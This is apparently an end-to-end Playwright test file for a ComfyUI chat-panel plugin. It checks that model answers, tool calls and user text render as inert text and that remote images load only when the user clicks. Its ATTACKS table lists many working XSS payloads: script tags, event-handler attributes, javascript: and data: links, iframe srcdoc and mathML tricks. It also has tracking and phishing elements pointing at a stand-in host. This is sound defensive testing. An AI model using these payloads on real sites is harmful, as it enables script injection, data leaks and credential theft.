"""Text of a model, a tool or a user stays text: no part of it runs, restyles the page or loads."""

import base64
import json
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Locator, Route, expect
from plugin.tests.e2e.panel import Panel, opened_panel
from plugin.tests.e2e.provider import ProviderThread
from plugin.tests.e2e.test_conversation import PIXEL
from plugin.tests.providers import Script, tool_call

pytestmark = pytest.mark.e2e

RUN = "window.hacked = (window.hacked ?? []).concat"
REMOTE = "https://pictures.example"
NOT_KEPT = {"Cache-Control": "no-store"}
ATTACKS = {
    "script": f"<script>{RUN}('script')</script>",
    "onerror": f"<img src='/nowhere.png' onerror=\"{RUN}('onerror')\">",
    "onload": f"<svg onload=\"{RUN}('svg')\"><script>{RUN}('svg script')</script></svg>",
    "math": f"<math><mtext><style><img src=x onerror=\"{RUN}('math')\"></style></mtext></math>",
    "iframe": f"<iframe src=\"javascript:parent.{RUN}('iframe')\"></iframe>",
    "srcdoc": f"<iframe srcdoc=\"<script>parent.{RUN}('srcdoc')</script>\"></iframe>",
    "object": "<object data='/'></object><embed src='/'>",
    "style": "<style>.ca-panel { display: none } * { color: red !important }</style>",
    "link": f"<link rel='stylesheet' href='{REMOTE}/spy.css'>",
    "base": f"<base href='{REMOTE}/'>",
    "meta": f"<meta http-equiv='refresh' content='0;url={REMOTE}'>",
    "form": f"<form action='{REMOTE}'><input name='key'><button>Log in</button></form>",
    "details": f"<details open ontoggle=\"{RUN}('toggle')\">x</details>",
    "video": f"<video poster='{REMOTE}/spy.png' src='{REMOTE}/spy.mp4' autoplay></video>",
    "srcset": f"<img srcset='{REMOTE}/spy2.png 1x'>",
    "background": f"<p style=\"background: url('{REMOTE}/spy3.png'); position: fixed\">x</p>",
    "javascript link": f"[click](javascript:{RUN}('link'))",
    "javascript html": f"<a href=\"java\tscript:{RUN}('html')\">click</a>",
    "data link": f"[click](data:text/html,<script>{RUN}('data')</script>)",
    "attribute": f'![x" onerror="{RUN}(1)](/nowhere2.png)',
    "code": f"```html\n<script>{RUN}('code')</script>\n```",
    "image": f"![a remote picture]({REMOTE}/spy4.png)",
    "act by picture": "![x](/api/chats/anything) <img src='/api/users'>",
}
FORBIDDEN = "script, style, iframe, object, embed, link, base, meta, form, math, video[src]"
LEFTOVERS = """root => {
    const found = []
    for (const element of root.querySelectorAll('*')) {
        for (const {name, value} of element.attributes) {
            if (name.startsWith('on')) found.push(`${element.localName} ${name}`)
            if (/^\\s*(java\\s*script|data:text)/i.test(value)) found.push(value)
        }
        if (element.localName === 'p' && element.getAttribute('style')) found.push('style')
    }
    return found
}"""


def expect_loaded(picture: Locator) -> None:
    """The picture is shown, and is the one of a pixel that the test sent."""
    expect(picture).to_be_visible()
    expect(picture).to_have_js_property("naturalWidth", 1)


def expect_harmless(panel: Panel) -> None:
    expect(panel.root.locator(FORBIDDEN)).to_have_count(0)
    assert panel.root.evaluate(LEFTOVERS) == []
    assert panel.evaluate("() => window.hacked ?? []") == []
    expect(panel.button("New chat")).to_be_visible()
    assert panel.page.url.startswith(panel.url)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_answer_is_inert(panel: Panel, provider: ProviderThread, attack: str) -> None:
    provider.queue(f"Before.\n\n{ATTACKS[attack]}\n\nThe end.")
    panel.ask("Show me")
    expect(panel.answer).to_contain_text("The end.")
    panel.idle()
    for link in panel.answer.get_by_role("link").all():
        assert str(link.get_attribute("href")).startswith(("http:", "https:", "mailto:"))
    expect_harmless(panel)


def test_an_attack_that_comes_in_pieces_is_inert(panel: Panel, provider: ProviderThread) -> None:
    pieces = [{"text": character} for character in "".join(ATTACKS.values())]
    provider.queue(Script([*pieces, {"text": "\n\nThe end."}]))
    panel.ask("Show me slowly")
    panel.idle()
    expect_harmless(panel)


def test_what_the_user_a_tool_and_a_file_say_is_text(
    panel: Panel, provider: ProviderThread
) -> None:
    attack = ATTACKS["onerror"] + ATTACKS["script"]
    arguments = {"name": attack, "description": attack, "instructions": attack}
    provider.queue(
        Script([{"reasoning": attack}, tool_call("getUserSkill", {"slug": attack})]),
        Script([tool_call(f"tool{attack}", {"x": attack})]),
        Script([tool_call("createUserSkill", arguments)]),
        "All quiet.",
    )
    panel.ask(attack)
    card = panel.answer.get_by_role("group", name="Save this skill?")
    expect(card).to_contain_text("<script>")
    expect(panel.articles.first).to_contain_text("<script>")
    for step in panel.answer.locator("summary").all():
        step.click()
    expect_harmless(panel)
    card.get_by_role("button", name="No").click()
    expect(panel.answer).to_contain_text("All quiet.")
    panel.button("Chats").click()
    expect(panel.root.get_by_role("button", name="<img src=").first).to_be_visible()
    expect_harmless(panel)
    panel.button("Back to the chat").click()


def test_a_remote_picture_is_fetched_only_when_the_user_says_so(
    browser: Browser, url: str, provider: ProviderThread
) -> None:
    """The test itself answers the address, so no request leaves the machine."""
    asked: list[str] = []
    referers: list[str | None] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        referers.append(route.request.headers.get("referer"))
        route.fulfill(body=base64.b64decode(PIXEL), content_type="image/png", headers=NOT_KEPT)

    with opened_panel(browser, url) as panel:
        panel.page.context.route(f"{REMOTE}/**", answer)
        provider.queue(f"![a cat]({REMOTE}/cat.png?secret=1)\n\nThere.")
        panel.ask("A cat")
        expect(panel.answer).to_contain_text("There.")
        panel.idle()
        ask = panel.button("Load image from pictures.example a cat")
        expect(ask).to_be_visible()
        assert asked == []
        panel.reload()
        expect(ask).to_be_visible()
        assert asked == []
        ask.click()
        picture = panel.answer.get_by_role("button", name="Enlarge: a cat")
        expect_loaded(picture)
        assert asked == [f"{REMOTE}/cat.png?secret=1"]
        picture.click()
        large = panel.page.get_by_role("dialog", name="a cat")
        expect_loaded(large.get_by_role("img", name="a cat"))
        panel.page.keyboard.press("Escape")
        expect(large).to_have_count(0)
        assert set(asked) == {f"{REMOTE}/cat.png?secret=1"}
        assert set(referers) == {None}
        assert panel.watch.foreign_requests == asked
        panel.watch.foreign_requests.clear()


def test_a_route_of_this_server_is_fetched_only_when_the_user_says_so(
    browser: Browser, url: str, provider: ProviderThread
) -> None:
    """A path that ends like a picture may be any route of ComfyUI or of another plugin."""
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(urlsplit(route.request.url).path)
        route.fulfill(body=base64.b64decode(PIXEL), content_type="image/png")

    with opened_panel(browser, url) as panel:
        panel.page.context.route("**/nowhere/**", answer)
        panel.page.context.route("**/api/view?**", answer)
        files = (
            f"![acts](/nowhere/delete/all.png) ![other name]({other_name(url)}/nowhere/run.webp) "
            "![never](/nowhere/reboot) ![drawn](/api/view?filename=a.png)"
        )
        provider.queue(f"{files}\n\nThere.")
        panel.ask("Pictures")
        expect(panel.answer).to_contain_text("There.")
        panel.idle()
        expect_loaded(panel.answer.get_by_role("button", name="Enlarge: drawn"))
        ask = panel.answer.get_by_role("button", name="/nowhere/delete/all.png acts")
        expect(ask).to_be_visible()
        expect(panel.answer.locator(".ca-load")).to_have_count(2)
        assert asked == ["/api/view"]
        ask.click()
        expect_loaded(panel.answer.get_by_role("button", name="Enlarge: acts"))
        assert asked == ["/api/view", "/nowhere/delete/all.png"]


def other_name(url: str) -> str:
    """Another name of the server at 127.0.0.1."""
    return url.replace("127.0.0.1", "localhost")


def test_a_whole_conversation_asks_no_other_host(panel: Panel, provider: ProviderThread) -> None:
    """In addition to the watch of every test, this test sees requests of service workers and
    frames."""
    provider.queue("Done.")
    panel.ask("Hello")
    panel.idle()
    entries = panel.evaluate(
        "() => performance.getEntriesByType('resource').map(entry => new URL(entry.name).origin)"
    )
    own = panel.evaluate("() => location.origin")
    assert {origin for origin in entries if origin != "null"} == {own}
    assert json.dumps(panel.watch.foreign_requests) == "[]"
